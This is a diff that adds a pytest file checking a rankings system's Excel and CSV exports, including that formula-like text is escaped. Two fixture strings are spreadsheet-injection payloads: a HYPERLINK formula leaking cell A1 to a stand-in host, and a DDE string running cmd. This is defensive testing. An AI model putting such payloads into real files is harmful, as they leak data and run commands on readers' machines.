@@ -1,0 +1,126 @@
+"""The Excel workbook and CSV: they open, their values are the engine's, and formulas stay text."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from data.setup import ensure_ready
+from data.warehouse import Warehouse
+from metrics import service
+from reports.csvexport import csv_bytes, rankings_csv
+from reports.excel import workbook
+
+MONTH = "2026-10"
+EVIL_REASON = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
+EVIL_EVIDENCE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture(scope="module")
+def wh(tmp_path_factory) -> Warehouse:
+    wh = Warehouse(tmp_path_factory.mktemp("excel") / "w.duckdb")
+    ensure_ready(wh, end=MONTH)
+    # Text that arrives from uploads and forms: a unit renamed to a formula, and an adjustment reason.
+    units = wh.units()
+    units.loc[units["code"] == "D18", "name_zh"] = "-2+3 区测试局"
+    wh.upsert_units(units, actor="tester")
+    service.add_adjustment(wh, "S02", MONTH, "deduction", 3, EVIL_REASON, EVIL_EVIDENCE, "tester")
+    return wh
+
+
+@pytest.fixture(scope="module")
+def build(wh):
+    return service.build(wh, MONTH)
+
+
+@pytest.fixture(scope="module")
+def book(wh, build):
+    return load_workbook(io.BytesIO(workbook(wh, MONTH, build=build)))
+
+
+def header_index(ws) -> dict[str, int]:
+    return {str(c.value): c.column for c in ws[1] if c.value is not None}
+
+
+def test_one_ranking_sheet_per_peer_group_with_the_engines_totals(book, build):
+    rank_sheets = [ws for ws in book.worksheets if ws.title.startswith("排名-")]
+    assert len(rank_sheets) == build.totals["peer_group"].nunique()
+    seen = {}
+    for ws in rank_sheets:
+        h = header_index(ws)
+        for row in ws.iter_rows(min_row=2, values_only=True):
+            seen[row[h["code"] - 1]] = (row[h["总分"] - 1], row[h["名次"] - 1], row[h["指标分"] - 1])
+        assert ws.freeze_panes == "C2"
+        assert ws.conditional_formatting, ws.title
+        assert ws.cell(row=2, column=h["总分"]).number_format == "0.00"
+    expected = {r.unit_code: (r.total, r.rank, r.base_score) for r in build.totals.itertuples()}
+    assert seen.keys() == expected.keys()
+    for code, (total, rank, base) in expected.items():
+        assert seen[code][0] == pytest.approx(total, abs=1e-9)
+        assert seen[code][1] == rank
+        assert seen[code][2] == pytest.approx(base, abs=1e-9)
+
+
+def test_indicator_matrix_holds_the_engines_values(book, build):
+    ws = book["指标矩阵"]
+    codes = {c.column: str(c.value).split("\n")[-1] for c in ws[1][3:]}
+    ind = build.indicators.set_index(["unit_code", "indicator_code"])
+    checked = 0
+    for row in ws.iter_rows(min_row=2):
+        unit = row[0].value
+        for cell in row[3:]:
+            key = (unit, codes[cell.column])
+            if key in ind.index:
+                v = ind.loc[key, "value"]
+                assert (cell.value is None) == (v != v), key
+                if cell.value is not None:
+                    assert cell.value == pytest.approx(v, abs=1e-9)
+                    checked += 1
+    assert checked > 500
+    assert ws.freeze_panes == "D2"
+
+
+def test_explanation_sheet_reproduces_points(book, build):
+    ws = book["得分说明"]
+    h = header_index(ws)
+    pts = {}
+    for row in ws.iter_rows(min_row=2, values_only=True):
+        pts[row[h["code"] - 1]] = pts.get(row[h["code"] - 1], 0) + (row[h["折算分"] - 1] or 0)
+    for r in build.totals.itertuples():
+        assert pts[r.unit_code] == pytest.approx(r.base_score, abs=1e-6)
+
+
+def test_no_cell_in_the_workbook_is_a_formula(book):
+    texts = []
+    for ws in book.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (ws.title, cell.value)
+                    texts.append(cell.value)
+    assert "'" + EVIL_REASON in texts and "'" + EVIL_EVIDENCE in texts
+    assert "'-2+3 区测试局" in texts
+
+
+def test_english_workbook(wh, build):
+    book = load_workbook(io.BytesIO(workbook(wh, MONTH, lang="en", build=build)))
+    assert any(ws.title.startswith("Rankings-") for ws in book.worksheets)
+    assert "Indicator matrix" in book.sheetnames
+
+
+def test_csv_has_a_bom_and_neutralised_text(wh, build):
+    data = rankings_csv(wh, MONTH, build=build)
+    assert data.startswith(b"\xef\xbb\xbf")
+    text = data.decode("utf-8-sig")
+    assert "'-2+3 区测试局" in text and "\n-2+3" not in text and ",-2+3" not in text
+    assert len(text.strip().splitlines()) == len(build.totals) + 1
+
+
+def test_csv_keeps_numbers_numeric():
+    import pandas as pd
+
+    out = csv_bytes(pd.DataFrame({"a": [-1.5, 2.0], "b": ["-1", "ok"]})).decode("utf-8-sig")
+    assert out.splitlines() == ["a,b", "-1.5,'-1", "2.0,ok"]
